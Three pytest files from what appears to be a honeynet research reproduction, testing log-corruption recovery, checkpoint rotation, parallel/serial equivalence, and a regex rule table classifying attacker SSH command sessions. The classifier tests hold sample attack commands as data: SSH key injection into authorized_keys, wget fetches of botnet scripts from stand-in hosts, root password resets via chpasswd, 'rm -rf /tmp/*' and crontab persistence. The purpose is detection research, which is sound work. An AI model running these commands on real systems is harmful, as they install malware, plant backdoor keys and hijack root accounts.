        second = LogCorruptor(NASTY, RngTree(5).child("log")).corrupt_lines(
            list(lines)
        )
        assert first == second
        assert first != lines  # at these rates 200 lines never escape clean

    def test_corrupt_file_changes_bytes(self, tmp_path):
        path = tmp_path / "f.bin"
        original = bytes(range(256))
        path.write_bytes(original)
        corrupt_file(path, random.Random(3))
        assert path.read_bytes() != original

    def test_checkpoint_corruptor_keyed_by_save_event(self, tmp_path):
        corruptor = CheckpointCorruptor(probability=1.0, tree=RngTree(2))
        path = tmp_path / "c.ckpt"
        path.write_text("x" * 100)
        assert corruptor.maybe_corrupt(path, key=738000)
        never = CheckpointCorruptor(probability=0.0, tree=RngTree(2))
        path.write_text("x" * 100)
        assert not never.maybe_corrupt(path, key=738000)
        assert path.read_text() == "x" * 100

    def test_crash_point_schedule(self):
        always = IntegrityFaults(worker_crash_probability=1.0)
        point = crash_point(always, seed=1, shard_index=0, attempt=0, days=10)
        assert point is not None and 0 <= point < 10
        assert crash_point(always, 1, 0, 0, 10) == point  # deterministic
        assert crash_point(always, 1, 0, 1, 10) is not None  # retries re-roll
        assert crash_point(IntegrityFaults(), 1, 0, 0, 10) is None
        assert crash_point(None, 1, 0, 0, 10) is None
        assert crash_point(always, 1, 0, 0, 0) is None


class TestRecovery:
    """write → corrupt → recover is lossless up to quarantined lines."""

    def test_clean_round_trip_reports_pristine(self, tmp_path):
        path = tmp_path / "clean.jsonl"
        originals = records(20)
        assert write_jsonl(originals, path) == 20
        recovered = recover_jsonl(path)
        report = recovered.report
        assert [s.session_id for s in recovered.records] == [
            s.session_id for s in originals
        ]
        assert report.lossless and report.lost == 0
        assert report.duplicates == report.reordered == 0
        assert report.manifest_match is True
        assert report.conservation_balanced()

    def test_corrupted_write_recovers_clean_subset(self, tmp_path):
        path = tmp_path / "dirty.jsonl"
        originals = records(120)
        corruptor = LogCorruptor(NASTY, RngTree(7).child("log"))
        write_jsonl(originals, path, corruptor=corruptor)
        store = QuarantineStore(tmp_path / "quarantine")
        recovered = recover_jsonl(path, quarantine=store)
        report = recovered.report

        # Every recovered record is byte-identical to the original at
        # its sequence position — corruption can lose, never skew.
        by_id = {s.session_id: s for s in originals}
        for record in recovered.records:
            assert session_to_dict(record) == session_to_dict(
                by_id[record.session_id]
            )
        assert report.recovered + report.missing == len(originals)
        assert report.lost > 0  # NASTY at 120 lines always mangles some
        assert report.conservation_balanced()
        # Quarantine provenance matches the report exactly.
        assert len(store) == report.lost
        reasons = store.counts_by_reason()
        assert sum(reasons.values()) == report.lost
        assert reasons.get("missing-line", 0) == report.missing

    def test_duplicates_and_reorders_are_lossless(self, tmp_path):
        path = tmp_path / "shuffled.jsonl"
        originals = records(60)
        faults = IntegrityFaults(
            line_duplicate_probability=0.3, line_reorder_probability=0.3
        )
        write_jsonl(
            originals, path, corruptor=LogCorruptor(faults, RngTree(9).child("x"))
        )
        recovered = recover_jsonl(path)
        report = recovered.report
        assert report.lossless
        assert report.duplicates > 0 and report.reordered > 0
        assert [s.session_id for s in recovered.records] == [
            s.session_id for s in originals
        ]

    def test_recovery_accounting_balances(self, tmp_path):
        path = tmp_path / "d.jsonl"
        write_jsonl(
            records(100),
            path,
            corruptor=LogCorruptor(NASTY, RngTree(11).child("y")),
        )
        report = recover_jsonl(path).report
        counters = collector_accounting_for_recovery(report)
        assert counters["generated"] == (
            counters["deduplicated"] + counters["quarantined"] + report.recovered
        )
        from repro.honeynet.collector import Collector

        collector = Collector()
        collector.restore([], [], counters)
        collector.sessions.extend(records(report.recovered))
        assert collector.accounting_balanced()

    def test_read_jsonl_lenient_quarantines_next_to_file(self, tmp_path):
        path = tmp_path / "d.jsonl"
        write_jsonl(
            records(80),
            path,
            corruptor=LogCorruptor(NASTY, RngTree(13).child("z")),
        )
        loaded = read_jsonl(path, mode="lenient")
        assert 0 < len(loaded) <= 80
        assert (tmp_path / "quarantine" / "quarantine.jsonl").exists()

    def test_read_jsonl_lenient_tolerates_empty_file(self, tmp_path):
        path = tmp_path / "empty.jsonl"
        path.write_text("")
        assert read_jsonl(path, mode="lenient") == []
        recovered = recover_jsonl(path)
        assert recovered.records == [] and recovered.report.lost == 0

    def test_recover_without_manifest_still_reads_everything(self, tmp_path):
        from repro.integrity.manifest import manifest_path

        path = tmp_path / "d.jsonl"
        write_jsonl(records(12), path)
        manifest_path(path).unlink()
        recovered = recover_jsonl(path)
        assert len(recovered.records) == 12
        # Without the sidecar there is no expected line count, so the
        # report cannot vouch for completeness — but nothing is lost.
        assert recovered.report.manifest_lines is None
        assert read_jsonl(path, mode="lenient") == recovered.records

    def test_legacy_lines_without_seq_recover_in_file_order(self, tmp_path):
        path = tmp_path / "legacy.jsonl"
        lines = [json.dumps(session_to_dict(r)) for r in records(5)]
        lines.insert(2, lines[2])  # a duplicate, identified by session id
        path.write_text("".join(line + "\n" for line in lines))
        recovered = recover_jsonl(path)
        assert [s.session_id for s in recovered.records] == [
            f"s-{i:04d}" for i in range(5)
        ]
        assert recovered.report.duplicates == 1

    def test_integrity_note(self):
        assert integrity_note(0, 100) is None
        note = integrity_note(5, 100)
        assert "5 of 100" in note and "5.00%" in note


class TestCheckpointGenerations:
    def config(self):
        return SimulationConfig(seed=33, scale=1e-4, **SHORT_WINDOW)

    def saved(self, tmp_path, times: int):
        config = self.config()
        result = run_simulation(config)
        path = tmp_path / "run.ckpt"
        for offset in range(times):
            save_checkpoint(
                path,
                config,
                date(2023, 10, 1 + offset),
                result.honeynet,
                result.collector,
            )
        return path, config

    def test_rotation_keeps_last_k(self, tmp_path):
        path, config = self.saved(tmp_path, times=5)
        generations = checkpoint_generations(path)
        assert [p.name for p in generations] == [
            "run.ckpt", "run.ckpt.1", "run.ckpt.2",
        ]
        assert all(p.exists() for p in generations)
        # Newest first: the head file carries the latest cursor.
        assert load_checkpoint(path, config).next_day == date(2023, 10, 5)
        assert load_checkpoint(generations[2], config).next_day == date(
            2023, 10, 3
        )

    def test_fallback_to_older_generation(self, tmp_path):
        path, config = self.saved(tmp_path, times=3)
        path.write_text("garbage")
        checkpoint, rejected = load_latest_checkpoint(path, config)
        assert checkpoint is not None
        assert checkpoint.next_day == date(2023, 10, 2)
        assert len(rejected) == 1 and "unreadable" in rejected[0]

    def test_bitflip_fails_section_checksum(self, tmp_path):
        path, config = self.saved(tmp_path, times=2)
        document = json.loads(path.read_text())
        document["counters"]["generated"] += 1  # parses fine, lies about content
        path.write_text(json.dumps(document))
        checkpoint, rejected = load_latest_checkpoint(path, config)
        assert checkpoint is not None  # fell back to .1
        assert any("checksum" in message for message in rejected)

    def test_all_generations_corrupt_starts_fresh(self, tmp_path):
        path, config = self.saved(tmp_path, times=3)
        for generation in checkpoint_generations(path):
            generation.write_text("garbage")
        checkpoint, rejected = load_latest_checkpoint(path, config)
        assert checkpoint is None
        assert len(rejected) == 3

    def test_resume_survives_corrupted_newest_generation(self, tmp_path):
        config = self.config()
        checkpoint = tmp_path / "run.ckpt"
        uninterrupted = run_simulation(config)
        run_simulation(
            config,
            checkpoint_path=checkpoint,
            checkpoint_every_days=7,
            stop_after=date(2023, 10, 2),
        )
        corrupt_file(checkpoint, random.Random(1))
        resumed = run_simulation(config, checkpoint_path=checkpoint, resume=True)
        assert resumed.database.digest() == uninterrupted.database.digest()

    def test_resume_with_every_generation_corrupt_starts_fresh(self, tmp_path):
        config = self.config()
        checkpoint = tmp_path / "run.ckpt"
        uninterrupted = run_simulation(config)
        run_simulation(
            config,
            checkpoint_path=checkpoint,
            checkpoint_every_days=7,
            stop_after=date(2023, 10, 2),
        )
        for generation in checkpoint_generations(checkpoint):
            if generation.exists():
                generation.write_text("garbage")
        resumed = run_simulation(config, checkpoint_path=checkpoint, resume=True)
        assert resumed.database.digest() == uninterrupted.database.digest()


def crashy_profile(probability: float = 1.0) -> FaultProfile:
    """The paper profile plus guaranteed worker crashes."""
    return dataclasses.replace(
        FaultProfile.paper(),
        name="crashy",
        integrity=IntegrityFaults(worker_crash_probability=probability),
    )


class TestCrashTolerance:
    def test_forced_crashes_fall_back_to_serial_identically(self):
        """p=1.0 kills every attempt of every shard; the engine must
        retry, exhaust the bounded retries, run every shard serially in
        the parent — and still produce the serial digest."""
        from repro import telemetry

        config = SimulationConfig(
            seed=33, scale=1e-4, faults=crashy_profile(), **SHORT_WINDOW
        )
        serial = run_simulation(config)
        with telemetry.collecting() as registry:
            parallel = run_simulation(config, workers=2)
        assert parallel.database.digest() == serial.database.digest()
        fallbacks = registry.counters["parallel.serial_fallbacks"]
        assert fallbacks >= 2  # every shard fell back
        # Each shard burned its full retry budget before giving up.
        assert registry.counters["parallel.worker_crashes"] == 3 * fallbacks

    def test_crash_free_profile_never_crashes(self):
        from repro import telemetry

        config = SimulationConfig(seed=33, scale=1e-4, **SHORT_WINDOW)
        with telemetry.collecting() as registry:
            run_simulation(config, workers=2)
        assert "parallel.worker_crashes" not in registry.counters


class TestVerify:
    def make_tree(self, tmp_path, corrupt: bool = False, recover: bool = False):
        path = tmp_path / "data.jsonl"
        corruptor = (
            LogCorruptor(NASTY, RngTree(17).child("v")) if corrupt else None
        )
        write_jsonl(records(80), path, corruptor=corruptor)
        if recover:
            read_jsonl(path, mode="lenient")
        return path

    def test_clean_tree_passes(self, tmp_path):
        self.make_tree(tmp_path)
        audit = audit_tree(tmp_path)
        assert audit.ok
        assert audit.records_verified == 80 and audit.records_lost == 0
        assert "PASS" in audit.render()

    def test_corrupt_unrecovered_tree_fails(self, tmp_path):
        self.make_tree(tmp_path, corrupt=True)
        audit = audit_tree(tmp_path)
        assert not audit.ok
        assert audit.records_lost > 0
        assert "FAIL" in audit.render()

    def test_recovered_tree_passes_with_quarantine(self, tmp_path):
        self.make_tree(tmp_path, corrupt=True, recover=True)
        audit = audit_tree(tmp_path)
        assert audit.ok
        assert audit.records_lost > 0
        assert audit.quarantine_entries == audit.records_lost
        statuses = {f.path: f.status for f in audit.findings}
        assert statuses["data.jsonl"] == "quarantined"

    def test_mangling_a_clean_file_fails_the_manifest(self, tmp_path):
        path = self.make_tree(tmp_path)
        with open(path, "a") as handle:
            handle.write(
                json.dumps(seal({**session_to_dict(make_record(1.0)), "seq": 80}))
                + "\n"
            )
        audit = audit_tree(tmp_path)
        assert not audit.ok  # manifest promised 80 lines, disk has 81

    def test_checkpoint_generations_audited_as_group(self, tmp_path):
        config = SimulationConfig(seed=33, scale=1e-4, **SHORT_WINDOW)
        result = run_simulation(config)
        path = tmp_path / "run.ckpt"
        for offset in range(3):
            save_checkpoint(
                path, config, date(2023, 10, 1 + offset),
                result.honeynet, result.collector,
            )
        assert audit_tree(tmp_path).ok
        corrupt_file(path, random.Random(4))
        audit = audit_tree(tmp_path)
        assert audit.ok  # newest is damaged, but .1 covers the resume
        statuses = {f.path: f.status for f in audit.findings}
        assert statuses["run.ckpt"] == "recovered"
        assert statuses["run.ckpt.1"] == "ok"
        for generation in checkpoint_generations(path):
            generation.write_text("garbage")
        assert not audit_tree(tmp_path).ok

    def test_leftover_tmp_is_flagged_not_fatal(self, tmp_path):
        self.make_tree(tmp_path)
        (tmp_path / "data.jsonl.tmp").write_text("half a write")
        audit = audit_tree(tmp_path)
        assert audit.ok
        assert any(f.kind == "temp" for f in audit.findings)

    def test_orphan_manifest_fails(self, tmp_path):
        path = self.make_tree(tmp_path)
        path.unlink()
        assert not audit_tree(tmp_path).ok

    def test_single_file_audit(self, tmp_path):
        path = self.make_tree(tmp_path)
        audit = audit_tree(path)
        assert audit.ok and len(audit.findings) == 1

    def test_to_json_round_trips(self, tmp_path):
        self.make_tree(tmp_path)
        payload = json.loads(audit_tree(tmp_path).to_json())
        assert payload["ok"] is True
        assert payload["findings"][0]["kind"] == "dataset"


class TestVerifyCli:
    def test_exit_codes(self, tmp_path, capsys):
        from repro.cli import main

        path = tmp_path / "data.jsonl"
        write_jsonl(records(10), path)
        assert main(["verify", str(tmp_path)]) == 0
        path.write_text(path.read_text() + "{broken\n")
        assert main(["verify", str(tmp_path)]) == 1
        assert main(["verify", str(tmp_path / "absent")]) == 2
        out = capsys.readouterr().out
        assert "PASS" in out and "FAIL" in out

    def test_json_export(self, tmp_path, capsys):
        from repro.cli import main

        write_jsonl(records(5), tmp_path / "data.jsonl")
        out_path = tmp_path / "audit.json"
        assert main(["verify", str(tmp_path), "--json", str(out_path)]) == 0
        payload = json.loads(out_path.read_text())
        assert payload["ok"] is True
        # Downstream tooling keys on a stable schema version; bumping it
        # is a deliberate act, not a side effect.
        from repro.integrity.verify import AUDIT_SCHEMA_VERSION

        assert payload["schema_version"] == AUDIT_SCHEMA_VERSION == 2
        assert payload["index_damaged"] is False
