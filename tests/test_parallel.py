"""Differential suite: the parallel engine must equal the serial one.

Every test here asserts *equivalence*, not plausibility: the sharded
day-loop and the chunked DLD matrix must reproduce the serial pipeline
byte for byte — same dataset digest, same collector accounting, same
dead letters, same honeypot counters, same matrix bits — across fault
profiles, worker counts, and checkpoint/resume in either direction.

Marked ``parallel`` so CI can run this suite as its own job leg
(``pytest -m parallel``) on every push.
"""

from __future__ import annotations

import random
from dataclasses import asdict
from datetime import date, timedelta

import numpy as np
import pytest

from repro.analysis.distance import (
    clear_distance_caches,
    distance_matrix,
    sample_sessions,
    session_tokens,
)
from repro.analysis.dld import normalized_dld
from repro.attackers.orchestrator import run_simulation
from repro.config import DEFAULT_CONFIG
from repro.parallel.shards import plan_shards
from tests.conftest import (
    GOLDEN_DEFAULT_DIGEST,
    PROFILES,
    short_fault_config,
)

pytestmark = pytest.mark.parallel


def assert_equivalent(parallel, serial, check_channel: bool = True) -> None:
    """The full equivalence contract between two simulation results.

    ``check_channel=False`` skips the transport-stats comparison for
    resumed runs: channel stats are not checkpointed (serial behaves
    the same way), so a resumed run only counts post-resume traffic.
    """
    assert parallel.database.digest() == serial.database.digest()
    assert parallel.collector.accounting() == serial.collector.accounting()
    assert parallel.collector.dead_letters == serial.collector.dead_letters
    assert parallel.collector.accounting_balanced()
    assert {
        hp.honeypot_id: hp._counter for hp in parallel.honeynet.honeypots
    } == {hp.honeypot_id: hp._counter for hp in serial.honeynet.honeypots}
    if not check_channel:
        return
    parallel_stats = asdict(parallel.channel.stats)
    serial_stats = asdict(serial.channel.stats)
    # Integer transport counters must match exactly; the simulated
    # backoff is a float sum, equal only up to summation order.
    backoff = "simulated_backoff_s"
    assert parallel_stats[backoff] == pytest.approx(serial_stats[backoff])
    del parallel_stats[backoff], serial_stats[backoff]
    assert parallel_stats == serial_stats


class TestShardPlanning:
    def test_shards_cover_window_exactly_once(self):
        shards = plan_shards(date(2022, 1, 1), date(2022, 3, 17), workers=3)
        assert shards[0].start == date(2022, 1, 1)
        assert shards[-1].end == date(2022, 3, 17)
        for previous, shard in zip(shards, shards[1:]):
            assert shard.start == previous.end + timedelta(days=1)
            assert shard.index == previous.index + 1

    def test_balanced_lengths(self):
        shards = plan_shards(date(2022, 1, 1), date(2022, 12, 31), workers=4)
        lengths = [shard.days for shard in shards]
        assert max(lengths) - min(lengths) <= 1
        assert sum(lengths) == 365

    def test_never_more_shards_than_days(self):
        shards = plan_shards(date(2022, 1, 1), date(2022, 1, 3), workers=8)
        assert len(shards) == 3
        assert all(shard.days == 1 for shard in shards)

    def test_empty_window(self):
        assert plan_shards(date(2022, 1, 2), date(2022, 1, 1), workers=2) == []

    def test_single_day(self):
        (shard,) = plan_shards(date(2022, 5, 5), date(2022, 5, 5), workers=4)
        assert shard.start == shard.end == date(2022, 5, 5)
        assert shard.next_day == date(2022, 5, 6)


class TestDifferential:
    """run_simulation(workers=N) ≡ serial, for every profile."""

    @pytest.mark.parametrize("profile", PROFILES)
    @pytest.mark.parametrize("workers", [2, 4])
    def test_digest_identical_to_serial(
        self, serial_baselines, profile, workers
    ):
        parallel = run_simulation(short_fault_config(profile), workers=workers)
        assert_equivalent(parallel, serial_baselines[profile])

    def test_workers_taken_from_config(self, serial_baselines):
        config = short_fault_config("paper").replace(workers=2)
        parallel = run_simulation(config)
        assert parallel.database.digest() == (
            serial_baselines["paper"].database.digest()
        )

    def test_explicit_workers_override_config(self, serial_baselines):
        config = short_fault_config("paper").replace(workers=4)
        serial = run_simulation(config, workers=1)
        assert serial.database.digest() == (
            serial_baselines["paper"].database.digest()
        )

    def test_default_config_pinned_digest_with_two_workers(self):
        """ISSUE acceptance: parallel paper-profile run is byte-identical
        to the golden digest captured before the fault subsystem existed."""
        result = run_simulation(DEFAULT_CONFIG, workers=2)
        assert result.database.digest() == GOLDEN_DEFAULT_DIGEST

    def test_invalid_worker_count_rejected(self):
        with pytest.raises(ValueError, match="workers"):
            run_simulation(short_fault_config("paper"), workers=0)


class TestCheckpointResumeParallel:
    """Mid-run checkpoints interoperate across both engines."""

    STOP = date(2023, 10, 2)

    def test_parallel_checkpoint_parallel_resume(
        self, tmp_path, serial_baselines
    ):
        config = short_fault_config("stress")
        checkpoint = tmp_path / "run.ckpt"
        partial = run_simulation(
            config,
            workers=2,
            checkpoint_path=checkpoint,
            checkpoint_every_days=7,
            stop_after=self.STOP,
        )
        assert len(partial.database) < len(serial_baselines["stress"].database)
        resumed = run_simulation(
            config, workers=2, checkpoint_path=checkpoint, resume=True
        )
        assert_equivalent(resumed, serial_baselines["stress"], check_channel=False)

    def test_serial_checkpoint_parallel_resume(
        self, tmp_path, serial_baselines
    ):
        config = short_fault_config("stress")
        checkpoint = tmp_path / "run.ckpt"
        run_simulation(
            config,
            checkpoint_path=checkpoint,
            checkpoint_every_days=7,
            stop_after=self.STOP,
        )
        resumed = run_simulation(
            config, workers=3, checkpoint_path=checkpoint, resume=True
        )
        assert resumed.database.digest() == (
            serial_baselines["stress"].database.digest()
        )

    def test_parallel_checkpoint_serial_resume(
        self, tmp_path, serial_baselines
    ):
        config = short_fault_config("stress")
        checkpoint = tmp_path / "run.ckpt"
        run_simulation(
            config,
            workers=2,
            checkpoint_path=checkpoint,
            checkpoint_every_days=7,
            stop_after=self.STOP,
        )
        resumed = run_simulation(config, checkpoint_path=checkpoint, resume=True)
        assert resumed.database.digest() == (
            serial_baselines["stress"].database.digest()
        )

    def test_parallel_resume_without_file_starts_fresh(
        self, tmp_path, serial_baselines
    ):
        resumed = run_simulation(
            short_fault_config("paper"),
            workers=2,
            checkpoint_path=tmp_path / "missing.ckpt",
            resume=True,
        )
        assert resumed.database.digest() == (
            serial_baselines["paper"].database.digest()
        )

    def test_parallel_resume_requires_checkpoint_path(self):
        with pytest.raises(ValueError, match="checkpoint_path"):
            run_simulation(short_fault_config("paper"), workers=2, resume=True)


def _random_token_sequences(count: int, seed: int) -> list[list[str]]:
    rng = random.Random(seed)
    vocabulary = ["cd", "/tmp", "wget", "<url>", "chmod", "777", "rm", "echo"]
    return [
        [rng.choice(vocabulary) for _ in range(rng.randrange(0, 24))]
        for _ in range(count)
    ]


class TestDistanceMatrixParallel:
    def test_chunked_pool_matches_serial_bit_for_bit(self):
        # 80 distinct-ish sequences → thousands of pairs, over the
        # MIN_PAIRS_FOR_POOL threshold, so the pool path really runs.
        tokens = _random_token_sequences(80, seed=5)
        clear_distance_caches()
        serial = distance_matrix(tokens)
        clear_distance_caches()
        parallel = distance_matrix(tokens, workers=2)
        assert np.array_equal(serial, parallel)

    def test_matrix_matches_naive_loop(self):
        tokens = _random_token_sequences(30, seed=9)
        clear_distance_caches()
        matrix = distance_matrix(tokens, workers=2)
        for i, a in enumerate(tokens):
            for j, b in enumerate(tokens):
                assert matrix[i, j] == normalized_dld(a, b)

    def test_tiny_inputs_skip_the_pool(self):
        tokens = _random_token_sequences(6, seed=1)
        clear_distance_caches()
        assert np.array_equal(
            distance_matrix(tokens, workers=4), distance_matrix(tokens)
        )

    def test_clustering_sample_matches(self, serial_baselines):
        sessions = sample_sessions(
            serial_baselines["paper"].database.command_sessions(), 150, seed=7
        )
        tokens = session_tokens(sessions)
        clear_distance_caches()
        serial = distance_matrix(tokens)
        clear_distance_caches()
        parallel = distance_matrix(tokens, workers=2)
        assert np.array_equal(serial, parallel)


class TestTokenizeOnce:
    """Regression for the per-call-site re-tokenization (ISSUE 2 fix)."""

    def make_sessions(self, count: int):
        from tests.conftest import make_record
        from repro.util.timeutils import to_epoch

        return [
            make_record(
                to_epoch(date(2022, 5, 1), index), session_id=f"tok-{index}"
            )
            for index in range(count)
        ]

    @staticmethod
    def count_tokenizations(monkeypatch):
        """Instrument ``TokenizerConfig.tokenize`` (the cache's miss
        path) and return the list of session ids it was called for."""
        from repro.analysis.tokenizer import TokenizerConfig

        calls = []
        real = TokenizerConfig.tokenize
        monkeypatch.setattr(
            TokenizerConfig,
            "tokenize",
            lambda self, session: calls.append(session.session_id)
            or real(self, session),
        )
        return calls

    def test_repeated_calls_tokenize_each_session_once(self, monkeypatch):
        clear_distance_caches()
        calls = self.count_tokenizations(monkeypatch)
        sessions = self.make_sessions(5)
        first = session_tokens(sessions)
        second = session_tokens(sessions)
        assert len(calls) == 5
        assert first == second
        clear_distance_caches()

    def test_different_caps_are_cached_separately(self, monkeypatch):
        clear_distance_caches()
        calls = self.count_tokenizations(monkeypatch)
        sessions = self.make_sessions(3)
        session_tokens(sessions, max_tokens=10)
        session_tokens(sessions, max_tokens=20)
        assert len(calls) == 6
        clear_distance_caches()
