"""Table-1 regex rules: one canonical example per category, plus
precedence behaviour."""

from __future__ import annotations

import pytest

from repro.analysis.classify import DEFAULT_CLASSIFIER
from repro.analysis.regexrules import CATEGORY_NAMES, RULES, UNKNOWN_CATEGORY, rule_by_name

#: category → a canonical command string it must match.
CANONICAL = {
    "mdrfckr": 'echo "ssh-rsa AAAA... mdrfckr" >> .ssh/authorized_keys',
    "curl_maxred": "curl https://x/ --max-redirs 5",
    "rapperbot": 'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAQCx rapper" >> k',
    "fslur_attack": "wget http://1.2.3.4/fslurtoken.sh",
    "gslur_echo": "echo gslurtoken > /tmp/.g",
    "ohshit_attack": "cd /tmp; wget http://h/ohshit.sh",
    "onions_attack": "wget http://h/onions1337.x86",
    "sora_attack": "cd /tmp; wget http://h/sora.sh",
    "heisen_attack": "wget http://h/Heisenberg.sh",
    "zeus_attack": "wget http://h/Zeus.arm",
    "update_attack": "wget http://h/update.sh; ./update.sh",
    "lenni_0451": "echo lenni0451 > /tmp/.l",
    "juicessh": "echo juicessh",
    "clamav": "echo x > /tmp/clamav.cron; crontab /tmp/clamav.cron",
    "passwd123_daemon": 'echo "daemon:Password123"|chpasswd; wget http://h/d',
    "wget_dget": "wget -4 http://h/d; dget -4 http://h/d",
    "openssl_passwd": "openssl passwd -1 abcd1234",
    "perl_dred_miner": "echo '#!/usr/bin/perl # dred' > /tmp/d.pl",
    "stx_miner": "export LC_ALL=C; echo stx > /tmp/.lock",
    "export_vei": "export VEI=1",
    "cloud_print": "echo cloud print test",
    "binx86": "lscpu | grep 'CPU(s):'; echo bin.x86_64",
    "root_17_char_pwd": 'echo "root:A1b2C3d4E5f6G7h8Z"|chpasswd',
    "root_12_char_echo321": 'echo "root:A1b2C3d4E5f6"|chpasswd; echo 321',
    "root_12_char_capscout": (
        'echo "root:A1b2C3d4E5f6"|chpasswd; '
        "cat /proc/cpuinfo | grep name | awk '{print $4,$5,$6,$7,$8,$9;}'"
    ),
    "ak47_scout": r'echo -e "\x41\x4b\x34\x37"; echo writable',
    "echo_ssh_check": 'echo "SSH check"',
    "echo_os_check": "echo 0a1b2c3d-0a1b-2c3d-4e5f-0a1b2c3d4e5f",
    "echo_ok": r'echo -e "\x6F\x6B"',
    "echo_ok_txt": "echo ok",
    "shell_fp": "echo $SHELL; dd bs=22 count=1",
    "uname_a_nproc": "uname -a; nproc",
    "uname_snri_nproc": "uname -s -n -r -i; nproc",
    "uname_svnrm": "uname -s -v -n -r -m",
    "uname_svnr_model": "uname -s -v -n -r; cat /proc/cpuinfo | grep 'model name'",
    "uname_svnr": "uname -s -v -n -r",
    "uname_a": "uname -a",
    "bbox_scout_cat": "/bin/busybox cat /proc/self/exe || cat /proc/self/exe",
    "bbox_loaderwget": "wget http://h/loader.wget",
    "bbox_echo_elf": r'/bin/busybox ps; echo -ne "\x7f\x45\x4c\x46" > .e',
    "bbox_rand_exec": "/bin/busybox dd if=/dev/urandom of=.r",
    "bbox_5_char_v2": "/bin/busybox QKZDF; /bin/busybox wget http://h/f",
    "rm_obf_pattern_1": "rm -rf *;cd /tmp ; echo x0x0x0; wget http://h/f",
    "rm_obf_pattern_7": "cd /tmp;rm -rf /tmp/* || cd /var/run; wget http://h/f",
    "bbox_unlabelled": "busybox ps; /tmp/f",
    "gen_curl_echo_ftp_wget": "curl -O u; echo x > f; ftpget h f f; wget u",
    "gen_curl_ftp_wget": "curl -O u; ftpget h f f; wget u",
    "gen_curl_echo_wget": "curl -O u; echo x > f; wget u",
    "gen_echo_ftp_wget": "echo x > f; ftpget h f f; wget u",
    "gen_curl_wget": "curl -O u; wget u",
    "gen_curl_echo": "curl -O u; echo x > f",
    "gen_echo_wget": "echo x > f; wget u",
    "gen_ftp_wget": "ftpget h f f; wget u",
    "gen_echo_ftp": "echo x > f; ftpget h f f",
    "gen_curl": "curl -O http://h/f",
    "gen_wget": "wget http://h/f",
    "gen_ftp": "ftpget -u anonymous h f f",
    "gen_echo": "echo payload > /tmp/f",
}


class TestRuleTable:
    def test_rule_count_is_58_plus_unknown(self):
        assert len(RULES) == 58
        assert len(CATEGORY_NAMES) == 59
        assert CATEGORY_NAMES[-1] == UNKNOWN_CATEGORY

    def test_names_unique(self):
        names = [rule.name for rule in RULES]
        assert len(names) == len(set(names))

    def test_every_rule_has_canonical_example(self):
        assert set(CANONICAL) == {rule.name for rule in RULES}

    def test_rule_by_name(self):
        assert rule_by_name("mdrfckr").name == "mdrfckr"
        with pytest.raises(KeyError):
            rule_by_name("nope")

    @pytest.mark.parametrize("category", sorted(CANONICAL))
    def test_canonical_example_classifies(self, category):
        assert DEFAULT_CLASSIFIER.classify_text(CANONICAL[category]) == category


class TestPrecedence:
    def test_mdrfckr_beats_everything(self):
        text = CANONICAL["rapperbot"] + "; mdrfckr"
        assert DEFAULT_CLASSIFIER.classify_text(text) == "mdrfckr"

    def test_specific_before_generic(self):
        # sora session also contains wget, but sora wins
        assert DEFAULT_CLASSIFIER.classify_text(CANONICAL["sora_attack"]) == "sora_attack"

    def test_uname_svnrm_before_svnr(self):
        assert DEFAULT_CLASSIFIER.classify_text("uname -s -v -n -r -m") == "uname_svnrm"

    def test_root17_before_root12(self):
        assert (
            DEFAULT_CLASSIFIER.classify_text('echo "root:AAAAbbbbCCCCddd17"|chpasswd')
            == "root_17_char_pwd"
        )

    def test_root12_does_not_match_17(self):
        text = 'echo "root:A1b2C3d4E5f6G7h8Z"|chpasswd; echo 321'
        assert DEFAULT_CLASSIFIER.classify_text(text) == "root_17_char_pwd"

    def test_bbox_5char_before_unlabelled(self):
        assert (
            DEFAULT_CLASSIFIER.classify_text(CANONICAL["bbox_5_char_v2"])
            == "bbox_5_char_v2"
        )

    def test_plain_busybox_falls_to_unlabelled(self):
        assert DEFAULT_CLASSIFIER.classify_text("busybox ps") == "bbox_unlabelled"

    def test_gen_order_most_tools_first(self):
        assert (
            DEFAULT_CLASSIFIER.classify_text(CANONICAL["gen_curl_echo_ftp_wget"])
            == "gen_curl_echo_ftp_wget"
        )

    def test_unknown_fallback(self):
        assert DEFAULT_CLASSIFIER.classify_text("cd /tmp; ./payload") == UNKNOWN_CATEGORY
        assert DEFAULT_CLASSIFIER.classify_text("") == UNKNOWN_CATEGORY

    def test_tftp_counts_as_ftp_tool(self):
        # "tftp" contains the "ftp" token, as in the paper's generic rules
        assert DEFAULT_CLASSIFIER.classify_text("tftp -g -r f h") == "gen_ftp"


@pytest.mark.cluster
class TestFastPathAgreement:
    """Trained TF-IDF → softmax fast path vs the regex rule table.

    The regex rules are the oracle; the learned classifier must agree
    on the generated corpus above a pinned floor (measured 0.906 on the
    default dataset), with the disagreements rendered as the failure
    artifact so a regression is diagnosable from the pytest output."""

    #: Pinned agreement floor for the default paper-scale corpus.
    AGREEMENT_FLOOR = 0.85

    @pytest.fixture(scope="class")
    def corpus(self, dataset):
        return dataset.database.command_sessions()

    @pytest.fixture(scope="class")
    def trained(self, corpus):
        from repro.analysis.fastpath import FastPathClassifier

        return FastPathClassifier.train(corpus)

    def test_agreement_above_pinned_floor(self, trained, corpus):
        from repro.analysis.fastpath import agreement_report

        report = agreement_report(trained, corpus)
        assert report.agreement >= self.AGREEMENT_FLOOR, (
            "fast path drifted from the regex rules:\n" + report.render()
        )

    def test_fastpath_labels_are_rule_categories(self, trained):
        valid = set(CATEGORY_NAMES) | {UNKNOWN_CATEGORY}
        assert set(trained.classes) <= valid
        for text in CANONICAL.values():
            assert trained.classify_text(text) in valid

    def test_training_is_deterministic(self, corpus):
        from repro.analysis.fastpath import FastPathClassifier

        subset = corpus[:300]
        first = FastPathClassifier.train(subset)
        second = FastPathClassifier.train(subset)
        assert first.classes == second.classes
        assert first.vocabulary.terms == second.vocabulary.terms
        assert (first.weights == second.weights).all()

    def test_report_renders_disagreements_readably(self):
        from repro.analysis.fastpath import AgreementReport

        report = AgreementReport(
            total=10,
            agreeing=8,
            disagreements=[
                ("wget http://h/x.sh", "update_attack", "unknown"),
                ("x" * 150, "unknown", "gen_wget"),
            ],
        )
        artifact = report.render(limit=1)
        assert "8/10" in artifact and "80.0%" in artifact
        assert "rules='update_attack' fastpath='unknown'" in artifact
        assert "1 more disagreement" in artifact
        assert report.agreement == pytest.approx(0.8)

    def test_agreement_gauge_is_published(self, trained, corpus):
        from repro import telemetry
        from repro.analysis.fastpath import agreement_report

        with telemetry.collecting() as registry:
            report = agreement_report(trained, corpus[:50])
        assert registry.gauges["fastpath.agreement"] == report.agreement
